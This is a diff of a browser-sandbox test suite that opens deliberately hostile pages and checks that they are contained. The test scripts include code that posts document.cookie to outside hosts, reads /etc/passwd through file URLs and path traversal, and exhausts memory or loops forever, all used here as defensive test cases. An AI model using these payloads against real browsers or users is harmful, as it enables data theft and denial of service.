@@ -9,7 +9,7 @@ import { nodeChild } from '../helpers/node-child.ts';
 import { open, page, whyNot, writeProject } from '../stages/behaviour/open.ts';
 
 describe.skipIf(whyNot !== undefined)('a hostile page', () => {
-  test('reaches neither this machine nor the world, nor a file', async () => {
+  test('reaches no local service, no network and no file', async () => {
     const { port, seen } = await listen();
     await fetch(`http://127.0.0.1:${port}/`).catch(() => {});
     expect(seen()).toBe(1);
@@ -27,16 +27,16 @@ describe.skipIf(whyNot !== undefined)('a hostile page', () => {
     });
     expect(seen()).toBe(1);
     expect(light).toBeDefined();
-    const said = behaviour.consoleErrors.join('\n');
-    expect(said).toContain('Not allowed to load local resource: file:///etc/passwd');
-    expect(said).not.toContain('REACHED');
-    expect(said).toContain('tried all');
+    const output = behaviour.consoleErrors.join('\n');
+    expect(output).toContain('Not allowed to load local resource: file:///etc/passwd');
+    expect(output).not.toContain('REACHED');
+    expect(output).toContain('tried all');
     expect(behaviour.failedRequests.map(({ url }) => url)).toEqual(
       expect.arrayContaining([`http://127.0.0.1:${port}/frame`]),
     );
   });
 
-  test('has no environment, no rights and no trace of ours, and is gone when it is aborted', async () => {
+  test('has an empty environment, no privileges and none of our files, and ends when it is aborted', async () => {
     vi.stubEnv('JOB_SECRET', 'a-planted-secret');
     onTestFinished(() => void vi.unstubAllEnvs());
     const before = processTree(process.pid);
@@ -69,16 +69,16 @@ describe.skipIf(whyNot !== undefined)('a hostile page', () => {
       'asks without end, also when it is left',
       '<script>onbeforeunload = () => { for (;;) alert(1); }; for (;;) confirm(2);</script>',
     ],
-    ['loads itself again and again', '<script>setTimeout(() => location.reload(), 20)</script>'],
-  ])('that %s is ended in time', async (_, body) => {
+    ['reloads itself forever', '<script>setTimeout(() => location.reload(), 20)</script>'],
+  ])('that %s is stopped in time', async (_, body) => {
     const { behaviour } = await open({ 'index.html': page(body) }, { timeoutMs: 1_000 });
     expect(behaviour).toMatchObject({
       status: 'failed',
-      reason: 'The page did not come to rest within 1 s.',
+      reason: 'The page did not finish loading within 1 s.',
     });
   });
 
-  test('does not outlive a process that is killed while it is open', async () => {
+  test('ends if the process that opened it is killed', async () => {
     const dir = await writeProject({ 'index.html': page('<script>for (;;);</script>') });
     const opener = nodeChild(
       new URL('../stages/behaviour/children/opener.ts', import.meta.url),
@@ -95,20 +95,20 @@ describe.skipIf(whyNot !== undefined)('a hostile page', () => {
       `<script>const code = 'const all = []; for (;;) all.push(new Uint8Array(3e7).fill(7))';
       for (let i = 0; i < 4; i += 1) new Worker(URL.createObjectURL(new Blob([code])));</script>`,
     ],
-    ['with what it says', `<script>for (;;) console.error('x'.repeat(2e8));</script>`],
-  ])('that takes all memory %s is ended, and costs us none', async (_, body) => {
+    ['with console output', `<script>for (;;) console.error('x'.repeat(2e8));</script>`],
+  ])('that takes all memory %s is stopped, and does not use ours', async (_, body) => {
     const memoryBytes = 500_000_000;
     const before = memoryOf([process.pid]);
     const { behaviour } = await open({ 'index.html': page(body) }, { memoryBytes });
     expect(behaviour).toMatchObject({
       status: 'failed',
-      // What drives the browser may run out of its own memory first.
+      // The driver may run out of its own memory first.
       reason: expect.stringMatching(/more than 500 MB of memory\.$|ended too early\.$/),
     });
     expect(memoryOf([process.pid]) - before).toBeLessThan(100_000_000);
   });
 
-  test('opens no windows, and gets no larger picture than others', async () => {
+  test('opens no windows, and gets no larger screenshot than others', async () => {
     const { behaviour, light, dark } = await open({
       'index.html': page(`<div style="width: 90000px; height: 900000px"></div><script>
 let count = 0;
@@ -128,7 +128,7 @@ document.documentElement.requestFullscreen().catch(() => {}); resizeTo(9000, 900
   });
 });
 
-/** The tree of a process, once it has a page running that is shut in. */
+/** The process tree, once a page runs in the sandbox. */
 function runningPage(pid: number): Promise<readonly number[]> {
   return vi.waitFor(
     () => {
@@ -142,7 +142,7 @@ function runningPage(pid: number): Promise<readonly number[]> {
   );
 }
 
-/** Zombies are not: whoever inherits an orphan takes note of its end at leisure. */
+/** Whether a process runs. A zombie does not: its new parent may reap it later. */
 function isAlive(pid: number): boolean {
   return /^State:\t[^Z]/m.test(proc(pid, 'status'));
 }
@@ -151,7 +151,7 @@ function isRenderer(pid: number): boolean {
   return proc(pid, 'cmdline').includes('--type=renderer');
 }
 
-/** A server for whatever comes, on every loopback address. */
+/** A server that records all requests, on every loopback address. */
 async function listen() {
   let count = 0;
   const server = createServer((socket) => {
@@ -172,37 +172,37 @@ async function listen() {
   return { port, seen: () => count };
 }
 
-/** Every way out that a script has. */
+/** Every way for a script to reach the network. */
 function escapes(port: number): string {
   return `
 const there = ['http://127.0.0.1:${port}', 'http://localhost:${port}', 'https://example.com'];
-const tell = (how) => () => console.error('REACHED ' + how);
+const report = (how) => () => console.error('REACHED ' + how);
 for (const url of there) {
-  fetch(url, { mode: 'no-cors' }).then(tell('fetch'), () => {});
+  fetch(url, { mode: 'no-cors' }).then(report('fetch'), () => {});
   fetch(url, { mode: 'no-cors', method: 'POST', body: document.cookie, keepalive: true }).catch(() => {});
   navigator.sendBeacon(url, 'x');
   const request = new XMLHttpRequest();
-  request.onload = tell('xhr');
+  request.onload = report('xhr');
   request.open('GET', url);
   request.send();
-  new WebSocket(url.replace('http', 'ws')).onopen = tell('websocket');
-  new EventSource(url).onopen = tell('events');
+  new WebSocket(url.replace('http', 'ws')).onopen = report('websocket');
+  new EventSource(url).onopen = report('events');
   window.open(url);
   const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: 'f' });
   document.body.append(form);
   form.submit();
   new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '", { mode: "no-cors" })'])));
 }
-fetch('file:///etc/passwd').then(tell('file'), () => {});
-fetch('/../../../etc/passwd').then((answer) => answer.ok && tell('path')());
-fetch('/..%2f..%2f..%2fetc%2fpasswd').then((answer) => answer.ok && tell('path')());
+fetch('file:///etc/passwd').then(report('file'), () => {});
+fetch('/../../../etc/passwd').then((answer) => answer.ok && report('path')());
+fetch('/..%2f..%2f..%2fetc%2fpasswd').then((answer) => answer.ok && report('path')());
 navigator.serviceWorker.register('worker.js').then(() => navigator.serviceWorker.getRegistrations())
-  .then((all) => all.length > 0 && tell('service worker')(), () => {});
+  .then((all) => all.length > 0 && report('service worker')(), () => {});
 const peer = new RTCPeerConnection({ iceServers: [
   { urls: 'stun:127.0.0.1:${port}' }, { urls: 'turn:127.0.0.1:${port}?transport=tcp', username: 'a', credential: 'b' } ] });
 peer.createDataChannel('x');
 peer.createOffer().then((offer) => peer.setLocalDescription(offer));
-new WebTransport('https://127.0.0.1:${port}').ready.then(tell('transport'), () => {});
+new WebTransport('https://127.0.0.1:${port}').ready.then(report('transport'), () => {});
 document.querySelector('#download').click();
 location.href = 'http://127.0.0.1:${port}/left';
 location.href = 'file:///etc/passwd';
